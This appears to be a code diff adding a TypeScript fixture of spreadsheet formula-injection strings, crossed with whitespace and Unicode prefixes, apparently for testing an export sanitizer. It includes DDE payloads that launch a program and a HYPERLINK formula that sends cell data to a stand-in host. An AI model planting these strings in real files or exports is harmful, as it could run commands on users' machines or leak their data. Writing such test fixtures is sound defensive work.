@@ -1,0 +1,25 @@
+/** Texts that a spreadsheet would run, were they cells of their own: every beginning, behind everything that it overlooks. */
+const commands = [
+  '=1+1',
+  '=HYPERLINK("http://x.example/?"&A1,"open")',
+  "=cmd|' /C calc'!A0",
+  '+1+cmd|" /C calc"!A0',
+  '-2+3+cmd|" /C calc"!A0',
+  '@SUM(1+1)*cmd|" /C calc"!A0',
+  '=IMPORTXML("http://x.example","//a")',
+  '=WEBSERVICE("http://x.example")',
+  '＝1+1',
+  '＋1+1',
+  '－1+1',
+  '＠SUM(1)',
+  '|calc',
+  '%0A=1',
+  '=1;=2',
+  '+61400000000',
+  '=\n1',
+];
+const before = ['', ' ', '\t', '\r', '\n', '\u00a0', '\u3000', '\ufeff', '\u200b', '"', "'", ' \t ', '\r\n'];
+
+export const formulas: readonly string[] = before.flatMap((blank) =>
+  commands.map((command) => blank + command),
+);
